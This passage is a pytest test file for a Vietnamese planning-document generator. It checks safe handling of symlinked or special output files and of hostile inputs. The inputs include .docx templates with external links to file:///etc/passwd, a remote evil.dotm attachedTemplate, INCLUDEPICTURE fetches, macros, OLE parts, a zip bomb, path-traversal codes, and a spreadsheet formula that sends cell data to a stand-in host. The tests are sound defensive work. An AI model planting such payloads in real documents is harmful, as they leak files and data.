"""Reliability in a hostile environment (issue 15): shared folders, special files, mistakes
on the command line, untrusted templates.

Promises: no file outside the output folder (and the files the clerk named) is written, read
into an output, or deleted; no hand edit is lost; one bad document never stops the others;
never "Lỗi nội bộ" (exit 3) for a user's or the machine's mistake; untrusted templates read
nothing and reach nothing. Each case is counted in docs/reliability.md (`@case`; helpers.case_counts).
"""

from __future__ import annotations

import io
import os
import shutil
import stat
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from click.testing import CliRunner

from kehoach_docs.cli import main
from kehoach_docs.workspace.build import build_workspace

from helpers import case, copy_plans, text_lines

ROOT = Path(__file__).resolve().parent.parent
SOURCE = ROOT / "data" / "de-an-04"
TEMPLATE = ROOT / "kehoach_docs" / "templates" / "ke-hoach-dang.docx"
UNITS = ("ban-dan-toc", "so-noi-vu")

# --------------------------------------------------------------------------- helpers

@pytest.fixture
def ws(tmp_path) -> Path:
    """A small workspace: the office's plan, the khung and two unit files."""
    return copy_plans(tmp_path, list(UNITS))


def kehoach(*args, cwd: Path | None = None):
    """The CLI in process; returns (exit code, stdout, stderr)."""
    runner = CliRunner(mix_stderr=False) if "mix_stderr" in CliRunner.__init__.__code__.co_varnames \
        else CliRunner()
    old = os.getcwd()
    try:
        if cwd:
            os.chdir(cwd)
        result = runner.invoke(main, [str(a) for a in args])
    finally:
        os.chdir(old)
    if result.exception and not isinstance(result.exception, SystemExit):
        raise result.exception
    return result.exit_code, result.stdout, result.stderr


def assert_clean_failure(code: int, err: str, expected: tuple[int, ...] = (1, 2)) -> None:
    assert code in expected, (code, err)
    assert "Traceback" not in err and "Lỗi nội bộ" not in err and "BytesIO" not in err, err


def plan_path(tmp_path: Path, **changes) -> Path:
    """A copy of the sample plan with some top-level lines replaced."""
    text = (SOURCE / "ke-hoach-44.yaml").read_text(encoding="utf-8")
    for old, new in changes.items():
        assert old in text, old
        text = text.replace(old, new, 1)
    f = tmp_path / "kh.yaml"
    f.write_text(text, encoding="utf-8")
    return f


def template_with(tmp_path: Path, name: str = "mau.docx", *, replace: dict[str, bytes] | None = None,
                  add: list[tuple[str, bytes]] | None = None, edit=None) -> Path:
    """A copy of the packaged Party plan template, parts replaced, added (duplicates too), edited."""
    out = tmp_path / name
    replace, add = replace or {}, add or []
    with zipfile.ZipFile(TEMPLATE) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data = replace.get(info.filename, src.read(info))
            if edit:
                data = edit(info.filename, data)
            dst.writestr(info.filename, data)
        import warnings
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")  # zipfile warns about duplicate names
            for n, data in add:
                dst.writestr(n, data)
    return out


def read_part(path: Path, name: str) -> bytes:
    with zipfile.ZipFile(TEMPLATE if path is None else path) as zf:
        return zf.read(name)


# --------------------------------------------------------------------------- critical

@case("Lock file, manifest and outputs that are links or special files")
def test_a_lock_file_that_is_a_link_is_never_followed(ws, tmp_path):
    out, victim = tmp_path / "out", tmp_path / "victim.txt"
    out.mkdir()
    victim.write_text("dữ liệu quý", encoding="utf-8")
    (out / ".kehoach.lock").symlink_to("../victim.txt")
    code, _, err = kehoach("build", ws, "--out", out)
    assert_clean_failure(code, err)
    assert "liên kết" in err and victim.read_text(encoding="utf-8") == "dữ liệu quý"
    assert not list(out.rglob("*.docx"))


@case("`render` writes as `build` does")
def test_render_keeps_a_hand_edited_output(tmp_path):
    f = plan_path(tmp_path)
    target = tmp_path / "kh.docx"
    assert kehoach("render", f, "-o", target)[0] == 0
    target.write_bytes(target.read_bytes() + b"sua tay")  # the clerk's edit (any change)
    edited = target.read_bytes()
    code, _, err = kehoach("render", f, "-o", target)
    assert_clean_failure(code, err)
    assert "sửa tay" in err and "--force" in err and target.read_bytes() == edited
    code, out, err = kehoach("render", f, "-o", target, "--force")
    assert code == 0, err
    assert (tmp_path / "kh.ban-sua-tay.docx").read_bytes() == edited and target.read_bytes() != edited


@case("`render` writes as `build` does")
def test_render_onto_its_own_yaml_is_refused(tmp_path):
    f = plan_path(tmp_path)
    before = f.read_bytes()
    for extra in ((), ("--force",)):
        code, _, err = kehoach("render", f, "-o", f, *extra)
        assert_clean_failure(code, err)
        assert "đầu vào" in err and f.read_bytes() == before


@case("`render` writes as `build` does")
def test_render_onto_the_khung_is_refused(ws):
    khung = ws / "khung-don-vi.yaml"
    before = khung.read_bytes()
    code, _, err = kehoach("render", ws / "don-vi" / "so-noi-vu.yaml", "-o", khung)
    assert_clean_failure(code, err)
    assert khung.read_bytes() == before


@case("`render` writes as `build` does")
def test_render_onto_its_template_is_refused(tmp_path):
    f, tpl = plan_path(tmp_path), template_with(tmp_path)
    before = tpl.read_bytes()
    for force in ((), ("--force",)):  # refused even with --force
        code, _, err = kehoach("render", f, "--template", tpl, "-o", tpl, *force)
        assert_clean_failure(code, err)
        assert "chính là tệp dữ liệu đầu vào" in err
        assert tpl.read_bytes() == before


@case("`render` writes as `build` does")
def test_render_onto_a_file_that_is_not_docx_needs_force(tmp_path):
    f = plan_path(tmp_path)
    notes = tmp_path / "ghi-chu.txt"
    notes.write_text("ghi chú", encoding="utf-8")
    code, _, err = kehoach("render", f, "-o", notes)
    assert_clean_failure(code, err)
    assert ".docx" in err and notes.read_text(encoding="utf-8") == "ghi chú"


@case("`status --csv/--xlsx` onto a data file")
@pytest.mark.parametrize("option", ["--csv", "--xlsx"])
def test_status_export_onto_a_data_file_is_refused(ws, option):
    plan = ws / "ke-hoach-44.yaml"
    before = plan.read_bytes()
    code, _, err = kehoach("status", ws, "--as-of", "2023-12-31", option, plan)
    assert_clean_failure(code, err)
    assert plan.read_bytes() == before


def _external_image_rels(target: str) -> bytes:
    rels = read_part(None, "word/_rels/document.xml.rels").decode()
    return rels.replace("</Relationships>", f'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/'
                        f'officeDocument/2006/relationships/image" Target="{target}" TargetMode="External"/>'
                        "</Relationships>").encode()


@case("Untrusted template packages (every part)")
@pytest.mark.parametrize("target", ["file:///etc/passwd", "http://127.0.0.1:9/x.png"])
def test_template_with_an_externally_linked_image_is_refused(tmp_path, target):
    f = plan_path(tmp_path)
    tpl = template_with(tmp_path, replace={"word/_rels/document.xml.rels": _external_image_rels(target)})
    code, _, err = kehoach("render", f, "--template", tpl, "-o", tmp_path / "out.docx")
    assert_clean_failure(code, err, (1,))
    assert "liên kết ra ngoài" in err and target in err and not (tmp_path / "out.docx").exists()


@case("Untrusted template packages (every part)")
def test_template_with_an_external_attached_template_in_settings_is_refused(tmp_path):
    f = plan_path(tmp_path)
    rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.'
            'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.'
            'openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
            'Target="file:///C:/x/evil.dotm" TargetMode="External"/></Relationships>').encode()
    tpl = template_with(tmp_path, add=[("word/_rels/settings.xml.rels", rels)])
    code, _, err = kehoach("render", f, "--template", tpl, "-o", tmp_path / "out.docx")
    assert_clean_failure(code, err, (1,))
    assert "settings.xml.rels" in err and "attachedTemplate" in err


# --------------------------------------------------------------------------- major: files

def _build(ws: Path, out: Path, *extra):
    code, stdout, err = kehoach("build", ws, "--out", out, "-j", "1", *extra)
    assert "Traceback" not in err and "Lỗi nội bộ" not in err, err
    return code, stdout, err


@case("Lock file, manifest and outputs that are links or special files")
def test_a_folder_link_inside_the_output_sends_nothing_elsewhere(ws, tmp_path):
    out, elsewhere = tmp_path / "out", tmp_path / "elsewhere"
    out.mkdir()
    elsewhere.mkdir()
    (out / "don-vi").symlink_to(elsewhere, target_is_directory=True)
    code, stdout, err = _build(ws, out)
    assert code == 1 and "liên kết" in err
    assert list(elsewhere.iterdir()) == []
    assert (out / "ke-hoach-44.docx").is_file()  # the others are still made


@case("Lock file, manifest and outputs that are links or special files")
def test_an_output_that_links_to_a_private_file_is_neither_read_nor_replaced(ws, tmp_path):
    out, secret = tmp_path / "out", tmp_path / "secret.docx"
    out.mkdir()
    secret.write_bytes(b"BI MAT")
    secret.chmod(0o600)
    (out / "ke-hoach-44.docx").symlink_to(secret)
    code, _, err = _build(ws, out, "--force")
    assert code == 1 and "liên kết" in err
    assert secret.read_bytes() == b"BI MAT" and stat.S_IMODE(secret.stat().st_mode) == 0o600
    assert not [p for p in out.rglob("*") if not p.is_symlink() and p.is_file() and b"BI MAT" in p.read_bytes()]
    assert (out / "don-vi" / "so-noi-vu.docx").is_file()


@case("Lock file, manifest and outputs that are links or special files")
def test_a_backup_of_a_private_hand_edit_stays_private(ws, tmp_path):
    out = tmp_path / "out"
    assert _build(ws, out)[0] == 0
    target = out / "ke-hoach-44.docx"
    target.write_bytes(target.read_bytes() + b"sua tay")
    target.chmod(0o600)
    assert _build(ws, out, "--force")[0] == 0
    backup = out / "ke-hoach-44.ban-sua-tay.docx"
    assert stat.S_IMODE(backup.stat().st_mode) == 0o600
    assert stat.S_IMODE(target.stat().st_mode) == 0o600  # the target's permissions are kept


@case("Lock file, manifest and outputs that are links or special files")
def test_an_output_linked_to_dev_zero_is_not_read(ws, tmp_path):
    out = tmp_path / "out"
    out.mkdir()
    (out / "ke-hoach-44.docx").symlink_to("/dev/zero")
    code, _, err = _build(ws, out)
    assert code == 1 and "ke-hoach-44.docx" in err
    assert (out / "don-vi" / "ban-dan-toc.docx").is_file()


@case("Lock file, manifest and outputs that are links or special files")
def test_an_output_that_is_a_fifo_does_not_hang_the_build(ws, tmp_path):
    out = tmp_path / "out"
    (out / "don-vi").mkdir(parents=True)
    os.mkfifo(out / "don-vi" / "so-noi-vu.docx")
    proc = subprocess.run([sys.executable, "-m", "kehoach_docs", "build", str(ws), "--out", str(out), "-j", "1"],
                          capture_output=True, text=True, timeout=120, cwd=ROOT)
    assert proc.returncode == 1 and "FIFO" in proc.stderr, proc.stderr
    assert stat.S_ISFIFO(os.lstat(out / "don-vi" / "so-noi-vu.docx").st_mode)
    assert (out / "ke-hoach-44.docx").is_file()


@case("Lock file, manifest and outputs that are links or special files")
def test_a_manifest_with_wrong_types_is_treated_as_missing(ws, tmp_path):
    out = tmp_path / "out"
    out.mkdir()
    (out / ".kehoach-manifest.json").write_text(
        '{"dinh_dang": 1, "dau_ra": {"ke-hoach-44.docx": {"dau_vao": [1, 2], "da_ghi": "x"}, "a": 5}}')
    code, stdout, err = _build(ws, out)
    assert code == 0, err
    assert "3 tạo mới" in stdout


@case("Lock file, manifest and outputs that are links or special files")
def test_a_manifest_that_is_a_folder_is_named(ws, tmp_path):
    out = tmp_path / "out"
    (out / ".kehoach-manifest.json").mkdir(parents=True)
    code, _, err = _build(ws, out)
    assert_clean_failure(code, err)
    assert ".kehoach-manifest.json" in err and "thư mục" in err


@case("One bad document never stops the others")
def test_an_output_path_that_is_a_folder_fails_that_document_only(ws, tmp_path):
    out = tmp_path / "out"
    (out / "don-vi" / "so-noi-vu.docx").mkdir(parents=True)
    code, stdout, err = _build(ws, out)
    assert code == 1 and "so-noi-vu.docx" in err and "thư mục" in err
    assert "2 tạo mới" in stdout and "1 lỗi" in stdout


@case("One bad document never stops the others")
def test_a_unit_file_name_as_long_as_the_file_system_allows_is_built(ws, tmp_path):
    long = "a" * (255 - len(".yaml"))
    shutil.copy(ws / "don-vi" / "so-noi-vu.yaml", ws / "don-vi" / f"{long}.yaml")
    out = tmp_path / "out"
    code, stdout, err = _build(ws, out)
    assert code == 0, err
    assert (out / "don-vi" / f"{long}.docx").is_file()
    assert not [p for p in out.rglob("*.tmp")]


@case("One bad document never stops the others")
def test_a_broken_styles_part_fails_the_documents_that_use_it_only(ws, tmp_path):
    plan = ws / "ke-hoach-44.yaml"
    tpl = template_with(ws, "mau-hong.docx", replace={"word/styles.xml": b"<w:styles><w:style>"})
    plan.write_text(plan.read_text(encoding="utf-8") + "\nmau: mau-hong.docx\n", encoding="utf-8")
    assert tpl.exists()
    out = tmp_path / "out"
    code, stdout, err = _build(ws, out)
    assert code == 1 and "styles.xml" in err and "XML" in err
    assert not (out / "ke-hoach-44.docx").exists()
    # the unit plans do not use that template (their own comes from the khung): still made
    assert "2 tạo mới" in stdout and "1 lỗi" in stdout


@case("Untrusted template packages (every part)")
def test_a_docm_renamed_docx_is_refused_in_words(tmp_path):
    f = plan_path(tmp_path)
    types = read_part(None, "[Content_Types].xml").replace(
        b"wordprocessingml.document.main+xml", b"ms-word.document.macroEnabled.main+xml")
    tpl = template_with(tmp_path, replace={"[Content_Types].xml": types},
                        add=[("word/vbaProject.bin", b"\xd0\xcf\x11\xe0macro")])
    code, _, err = kehoach("render", f, "--template", tpl, "-o", tmp_path / "out.docx")
    assert_clean_failure(code, err, (1,))
    assert ".docm" in err and "macro" in err


@case("Untrusted template packages (every part)")
def test_a_vba_project_part_is_refused(tmp_path):
    f = plan_path(tmp_path)
    tpl = template_with(tmp_path, add=[("word/vbaProject.bin", b"\xd0\xcf\x11\xe0macro")])
    code, _, err = kehoach("render", f, "--template", tpl, "-o", tmp_path / "out.docx")
    assert_clean_failure(code, err, (1,))
    assert "macro" in err and not (tmp_path / "out.docx").exists()


@case("Untrusted template packages (every part)")
def test_a_duplicate_zip_entry_is_refused(tmp_path):
    f = plan_path(tmp_path)
    tpl = template_with(tmp_path, add=[("word/styles.xml", read_part(None, "word/styles.xml"))])
    code, _, err = kehoach("render", f, "--template", tpl, "-o", tmp_path / "out.docx")
    assert_clean_failure(code, err, (1,))
    assert "cùng tên 'word/styles.xml'" in err


@case("Untrusted template packages (every part)")
def test_an_ole_object_is_refused(tmp_path):
    f = plan_path(tmp_path)
    tpl = template_with(tmp_path, add=[("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0ole")])
    code, _, err = kehoach("render", f, "--template", tpl, "-o", tmp_path / "out.docx")
    assert_clean_failure(code, err, (1,))
    assert "OLE" in err


@case("Untrusted template packages (every part)")
def test_an_alt_chunk_is_refused(tmp_path):
    f = plan_path(tmp_path)
    rels = _external_image_rels("x").replace(
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="x" '
        b'TargetMode="External"',
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/aFChunk" Target="a.html"')
    tpl = template_with(tmp_path, replace={"word/_rels/document.xml.rels": rels},
                        add=[("word/a.html", b"<html><img src='file:///etc/passwd'></html>")])
    code, _, err = kehoach("render", f, "--template", tpl, "-o", tmp_path / "out.docx")
    assert_clean_failure(code, err, (1,))
    assert "altChunk" in err


@case("Untrusted template packages (every part)")
def test_a_field_that_fetches_a_file_is_refused(tmp_path):
    f = plan_path(tmp_path)
    field = (b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> '
             b'INCLUDEPICTURE "http://127.0.0.1:9/x.png" \\d </w:instrText></w:r><w:r><w:fldChar '
             b'w:fldCharType="end"/></w:r></w:p>')
    tpl = template_with(tmp_path, edit=lambda n, d: d.replace(b"<w:body>", b"<w:body>" + field, 1)
                        if n == "word/document.xml" else d)
    code, _, err = kehoach("render", f, "--template", tpl, "-o", tmp_path / "out.docx")
    assert_clean_failure(code, err, (1,))
    assert "INCLUDEPICTURE" in err


@case("`render` writes as `build` does")
def test_render_runs_the_conformance_check(tmp_path):
    """A template that breaks the thể thức (the body in 12 pt) is refused by render as by build."""
    f = plan_path(tmp_path)
    styles = read_part(None, "word/styles.xml")
    assert b'<w:sz w:val="28"/>' in styles
    tpl = template_with(tmp_path, replace={"word/styles.xml": styles.replace(b'<w:sz w:val="28"/>',
                                                                              b'<w:sz w:val="24"/>')})
    code, _, err = kehoach("render", f, "--template", tpl, "-o", tmp_path / "out.docx")
    assert_clean_failure(code, err, (1,))
    assert "sai thể thức" in err and not (tmp_path / "out.docx").exists()


@case("One bad document never stops the others")
def test_a_column_loop_in_a_table_without_a_grid_renders(tmp_path):
    import docx

    from kehoach_docs.documents.pipeline import prepare, render_bytes

    tbl = (b'<w:tbl><w:tblPr/><w:tr><w:tc><w:p><w:r><w:t>{%tc for x in ["A", "B"] %}</w:t></w:r></w:p></w:tc>'
           b'<w:tc><w:p><w:r><w:t>{{ x }}</w:t></w:r></w:p></w:tc><w:tc><w:p><w:r><w:t>{%tc endfor %}</w:t>'
           b'</w:r></w:p></w:tc></w:tr></w:tbl>')
    tpl = template_with(tmp_path, edit=lambda n, d: d.replace(b"<w:body>", b"<w:body>" + tbl, 1)
                        if n == "word/document.xml" else d)
    data = render_bytes(prepare(plan_path(tmp_path), template=tpl))
    table = docx.Document(io.BytesIO(data)).tables[0]
    assert [c.text for c in table.rows[0].cells] == ["A", "B"]
    grid = table._tbl.find("{http://schemas.openxmlformats.org/wordprocessingml/2006/main}tblGrid")
    assert grid is not None and len(grid) == 2
    # The columns share the page's text width (page less its side margins), read here in EMU.
    section = docx.Document(io.BytesIO(data)).sections[-1]
    text_width = (section.page_width - section.left_margin - section.right_margin) // 635
    widths = [int(g.get("{http://schemas.openxmlformats.org/wordprocessingml/2006/main}w")) for g in grid]
    assert widths[0] == widths[1] and text_width - 2 <= sum(widths) <= text_width


# --------------------------------------------------------------------------- major: templates by name

@case("Templates found by name")
def test_an_output_named_like_a_template_is_never_taken_as_the_template(tmp_path):
    data = tmp_path / "du-lieu"
    data.mkdir()
    f = plan_path(tmp_path)
    plan = data / "ke-hoach-dang.yaml"  # its output, ke-hoach-dang.docx, is the default template's name
    shutil.move(f, plan)
    assert kehoach("render", plan)[0] == 0
    assert (data / "ke-hoach-dang.docx").is_file()
    text = plan.read_text(encoding="utf-8")
    plan.write_text(text.replace("dia_danh: Nghệ An", "dia_danh: Hà Tĩnh", 1), encoding="utf-8")
    code, _, err = kehoach("render", plan)
    assert code == 0, err
    assert any("Hà Tĩnh" in line for line in text_lines(data / "ke-hoach-dang.docx"))


@case("Templates found by name")
def test_build_out_into_the_data_folder_never_takes_an_output_as_the_template(tmp_path):
    ws = tmp_path / "ws"
    ws.mkdir()
    plan = ws / "ke-hoach-dang.yaml"
    shutil.move(plan_path(tmp_path), plan)
    assert build_workspace(ws, ws, workers=1).failed == []
    plan.write_text(plan.read_text(encoding="utf-8").replace("dia_danh: Nghệ An", "dia_danh: Hà Tĩnh", 1),
                    encoding="utf-8")
    report = build_workspace(ws, ws, workers=1)
    assert report.failed == []
    assert any("Hà Tĩnh" in line for line in text_lines(ws / "ke-hoach-dang.docx"))


@case("Templates found by name")
def test_a_bare_template_name_is_the_file_in_the_current_folder(tmp_path):
    f = plan_path(tmp_path)
    here = tmp_path / "here"
    here.mkdir()
    # a template of the same name as a packaged one, in the current folder, with a mark in its text
    template_with(here, "ke-hoach-nha-nuoc.docx", edit=lambda n, d: d.replace(
        b"{{ trich_yeu }}", "{{ trich_yeu }} MẪU Ở ĐÂY".encode(), 1) if n == "word/document.xml" else d)
    code, _, err = kehoach("render", f, "--template", "ke-hoach-nha-nuoc.docx", "-o", tmp_path / "o.docx",
                           cwd=here)
    assert code == 0, err
    assert any("MẪU Ở ĐÂY" in line for line in text_lines(tmp_path / "o.docx"))


@case("Templates found by name")
def test_a_template_found_elsewhere_is_named(tmp_path):
    f = plan_path(tmp_path)
    code, _, err = kehoach("render", f, "--template", "ke-hoach-dang.docx", "-o", tmp_path / "o.docx",
                           cwd=tmp_path)
    assert code == 0, err
    assert "dùng mẫu" in err and "ke-hoach-dang.docx" in err


# --------------------------------------------------------------------------- major: exit codes

@case("Users' and machines' mistakes: a message and exit 1 or 2, never exit 3")
@pytest.mark.parametrize("value", [".nan", ".inf", "-.inf"])
def test_nan_or_infinity_in_a_target_is_refused_at_its_place(tmp_path, value):
    f = plan_path(tmp_path, **{"        gia_tri: 100": f"        gia_tri: {value}"})
    code, _, err = kehoach("validate", f)
    assert_clean_failure(code, err, (1,))
    line = next(i for i, t in enumerate(f.read_text(encoding="utf-8").splitlines(), 1)
                if t == f"        gia_tri: {value}")
    assert "không phải một số" in err and f"{f}:{line}:" in err


@case("Users' and machines' mistakes: a message and exit 1 or 2, never exit 3")
def test_status_without_a_khung_says_so(ws):
    (ws / "khung-don-vi.yaml").unlink()
    code, _, err = kehoach("status", ws)
    assert_clean_failure(code, err)
    assert "khung-don-vi.yaml" in err


@case("Users' and machines' mistakes: a message and exit 1 or 2, never exit 3")
@pytest.mark.parametrize("bad", ["31-12", "32/12", "tháng 12"])
def test_a_malformed_report_deadline_is_refused_by_validate(ws, bad):
    khung = ws / "khung-don-vi.yaml"
    khung.write_text(khung.read_text(encoding="utf-8") + f'\nhan_bao_cao: "{bad}"\n', encoding="utf-8")
    code, _, err = kehoach("validate", khung)
    assert_clean_failure(code, err, (1,))
    assert "han_bao_cao" in err and "31/12" in err
    code, _, err = kehoach("status", ws)
    assert_clean_failure(code, err, (1,))


def _failing(errno_: int, real=os.open):
    def fake_open(path, flags, *args, **kwargs):
        if flags & os.O_CREAT and flags & os.O_EXCL:  # a new temporary file: where a write starts
            raise OSError(errno_, os.strerror(errno_), str(path))
        return real(path, flags, *args, **kwargs)
    return fake_open


@case("Users' and machines' mistakes: a message and exit 1 or 2, never exit 3")
@pytest.mark.parametrize("errno_, words", [(30, "chỉ cho đọc"), (28, "đầy")])
def test_a_read_only_or_full_output_disk_is_said_in_words(ws, tmp_path, monkeypatch, errno_, words):
    monkeypatch.setattr(os, "open", _failing(errno_))
    code, _, err = kehoach("build", ws, "--out", tmp_path / "out", "-j", "1")
    assert_clean_failure(code, err)
    assert words in err
    code, _, err = kehoach("render", ws / "ke-hoach-44.yaml", "-o", tmp_path / "o.docx")
    assert_clean_failure(code, err)
    assert words in err


@case("Users' and machines' mistakes: a message and exit 1 or 2, never exit 3")
def test_a_very_long_unit_name_gives_a_file_name_that_fits(ws):
    code, stdout, err = kehoach("new", "unit", ws, "--ten", "Sở " + "Rất Dài " * 60, "--loai", "dang_bo")
    assert code == 0, err
    (made,) = [p for p in (ws / "don-vi").iterdir() if p.name.startswith("so-rat-dai")]
    assert len(made.name.encode()) <= 100
    assert f'ten: "Sở {"Rất Dài " * 59}Rất Dài"' in made.read_text(encoding="utf-8")


def _cli(*args: str, stdout=subprocess.PIPE) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "kehoach_docs", *args], cwd=ROOT, stdout=stdout,
                          stderr=subprocess.PIPE, text=True, timeout=300)


@case("Users' and machines' mistakes: a message and exit 1 or 2, never exit 3")
def test_build_into_a_closed_pipe_stops_quietly(ws, tmp_path):
    proc = subprocess.Popen(f"{sys.executable} -m kehoach_docs build {ws} --out {tmp_path / 'out'} -j 1 -v"
                            " | head -c 0; echo ${PIPESTATUS[0]} >&2", shell=True,
                            executable="/bin/bash", cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                            text=True)
    _, err = proc.communicate(timeout=300)
    code = int(err.strip().splitlines()[-1])
    assert_clean_failure(code, err)
    assert "BrokenPipe" not in err and "Exception ignored" not in err
    assert (tmp_path / "out" / "ke-hoach-44.docx").is_file()


@case("Users' and machines' mistakes: a message and exit 1 or 2, never exit 3")
def test_stdout_to_a_full_device_is_said_in_words(ws):
    with open("/dev/full", "w") as full:
        proc = _cli("status", str(ws), "--as-of", "2023-12-31", "--tat-ca", stdout=full)
    assert_clean_failure(proc.returncode, proc.stderr)
    assert "đầy" in proc.stderr and "Exception ignored" not in proc.stderr


# --------------------------------------------------------------------------- major: command line

@case("Users' and machines' mistakes: a message and exit 1 or 2, never exit 3")
def test_check_refuses_a_zip_bomb_before_inflating_it(tmp_path, monkeypatch):
    from kehoach_docs.render import package_safety

    monkeypatch.setattr(package_safety, "MAX_PACKAGE_BYTES", 1 << 20)
    bomb = template_with(tmp_path, "bomb.docx", add=[("word/media/zeros.bin", b"\0" * (4 << 20))])
    assert bomb.stat().st_size < 100_000
    code, stdout, err = kehoach("check", bomb)
    assert_clean_failure(code, err + stdout, (1,))
    assert "quá lớn khi giải nén" in stdout


@case("Spreadsheet formula injection")
def test_a_name_like_a_formula_is_written_as_text_in_status_exports(ws, tmp_path):
    import csv

    import openpyxl

    unit = ws / "don-vi" / "so-noi-vu.yaml"
    formula = '=HYPERLINK("http://x.invalid/?"&A1,"Bấm")'
    text = unit.read_text(encoding="utf-8")
    assert "\nten: Sở Nội vụ" in text
    unit.write_text(text.replace("\nten: Sở Nội vụ", "\nten: '" + formula.replace("'", "''") + "'", 1),
                    encoding="utf-8")
    xlsx, csv_path = tmp_path / "t.xlsx", tmp_path / "t.csv"
    code, _, err = kehoach("status", ws, "--as-of", "2023-12-31", "--tat-ca", "--xlsx", xlsx, "--csv", csv_path)
    assert code == 0, err
    cells = [c for row in openpyxl.load_workbook(xlsx).active.iter_rows() for c in row if c.value == formula]
    assert cells and all(c.data_type == "s" for c in cells)
    with zipfile.ZipFile(xlsx) as zf:
        assert b"<f>" not in zf.read("xl/worksheets/sheet1.xml")
    rows = list(csv.reader(io.StringIO(csv_path.read_text(encoding="utf-8-sig"))))
    assert ["'" + formula] == [c for r in rows for c in r if formula in c]
    assert not [c for r in rows for c in r if c.startswith(("=", "+", "@"))]


@case("Paths from `new unit`")
@pytest.mark.parametrize("ma", ["../../x", "a/b", ".an", "<absolute>"])
def test_new_unit_refuses_a_code_that_is_a_path(ws, tmp_path, ma):
    outside = tmp_path / "ngoai"  # an absolute path outside the workspace, in this test's own folder
    ma = str(outside) if ma == "<absolute>" else ma
    before = sorted(p for p in tmp_path.rglob("*"))
    code, _, err = kehoach("new", "unit", ws, "--ten", "Sở Mới", "--loai", "dang_bo", "--ma", ma)
    assert_clean_failure(code, err, (2,))
    assert "--ma" in err or "Mã" in err
    assert sorted(p for p in tmp_path.rglob("*")) == before  # nothing written, ngoai.yaml included


@case("Paths from `new unit`")
def test_new_unit_with_a_name_without_letters_asks_for_a_code(ws):
    code, _, err = kehoach("new", "unit", ws, "--ten", "!!!", "--loai", "dang_bo")
    assert_clean_failure(code, err, (2,))
    assert "--ma" in err and not (ws / "don-vi" / ".yaml").exists()


# --------------------------------------------------------------------------- minor

@case("Temporary files: only our own, only where a build writes")
def test_cleanup_leaves_other_programs_files_and_deep_folders_alone(ws, tmp_path):
    out = tmp_path / "out"
    foreign = out / "don-vi" / ".x.abcdefgh.tmp"  # another program's name
    deep = out / "a" / "b" / "c" / "d" / ".x.docx.kehoach-abcdefgh.tmp"  # below any output folder
    for f in (foreign, deep):
        f.parent.mkdir(parents=True, exist_ok=True)
        f.write_bytes(b"")
    ours = out / "don-vi" / ".so-noi-vu.docx.kehoach-abcdefgh.tmp"  # a killed build's
    ours.write_bytes(b"half")
    assert _build(ws, out)[0] == 0
    assert foreign.exists() and deep.exists() and not ours.exists()


@case("Unit file names that differ only in case or marks")
@pytest.mark.parametrize("other", ["So-Noi-Vu", "SO-NOI-VU"])
def test_unit_files_differing_only_in_case_are_refused_naming_both(ws, tmp_path, other):
    shutil.copy(ws / "don-vi" / "so-noi-vu.yaml", ws / "don-vi" / f"{other}.yaml")
    code, stdout, err = _build(ws, tmp_path / "out")
    assert code == 1 and f"'{other}.yaml'" in err and "'so-noi-vu.yaml'" in err
    assert not (tmp_path / "out" / "don-vi" / "so-noi-vu.docx").exists()
    assert (tmp_path / "out" / "don-vi" / "ban-dan-toc.docx").is_file()


@case("Unit file names that differ only in case or marks")
def test_unit_files_differing_only_in_normalisation_are_refused_naming_both(ws, tmp_path):
    import unicodedata

    nfc, nfd = unicodedata.normalize("NFC", "sở-mới"), unicodedata.normalize("NFD", "sở-mới")
    for name in (nfc, nfd):
        shutil.copy(ws / "don-vi" / "so-noi-vu.yaml", ws / "don-vi" / f"{name}.yaml")
    code, _, err = _build(ws, tmp_path / "out")
    assert code == 1 and err.count("sở-mới") + err.count(nfd) >= 2 and "ghi đè" in err


def _plan_problem(tmp_path: Path, **changes) -> str:
    code, _, err = kehoach("validate", plan_path(tmp_path, **changes))
    assert_clean_failure(code, err, (1,))
    return err


@case("Implausible figures and dates")
def test_a_plan_dated_in_2200_is_refused(tmp_path):
    assert "2200" in _plan_problem(tmp_path, **{"ngay: 2021-12-10": "ngay: 2200-12-10"})


@case("Implausible figures and dates")
def test_a_target_of_1e300_is_refused(tmp_path):
    assert "Số quá lớn" in _plan_problem(tmp_path, **{"        gia_tri: 100": "        gia_tri: 1.0e+300"})


@case("Implausible figures and dates")
def test_a_count_of_two_and_a_half_models_is_refused(tmp_path):
    text = (SOURCE / "ke-hoach-44.yaml").read_text(encoding="utf-8")
    import re
    m = re.search(r"\n( +)gia_tri: (\d+)\n\1don_vi: mô hình", text)
    assert m, "the sample plan counts models"
    err = _plan_problem(tmp_path, **{m.group(0): m.group(0).replace(f"gia_tri: {m[2]}", "gia_tri: 2.5")})
    assert "số nguyên" in err


def _results_problem(ws: Path, text: str) -> str:
    f = ws / "ket-qua" / "2023" / "so-noi-vu.yaml"
    f.parent.mkdir(parents=True, exist_ok=True)
    f.write_text(text, encoding="utf-8")
    code, _, err = kehoach("validate", f)
    assert_clean_failure(code, err, (1,))
    return err


@case("Implausible figures and dates")
def test_attendance_above_the_total_is_refused(ws):
    err = _results_problem(ws, "nam: 2023\nquan_triet: {so_buoi: 2, so_nguoi_du: 300, tong_so_nguoi: 185}\n")
    assert "300" in err and "185" in err


@case("Implausible figures and dates")
def test_a_value_that_fits_no_kind_gets_one_message_without_pydantic_names(ws):
    err = _results_problem(ws, "nam: 2023\nchi_tieu:\n  tthc_nhanh_dung_hieu_qua: {dat: 5, tong: 3}\n"
                               "  hai_long_tthc: 2,5 phần trăm\n")
    assert "function-after" not in err and "Counts" not in err and "[bool]" not in err
    assert "đạt (5) lớn hơn tổng số (3)" in err
    assert err.count("hai_long_tthc") == 1


@case("Empty or wrong folders")
@pytest.mark.parametrize("make", ["empty", "parent"])
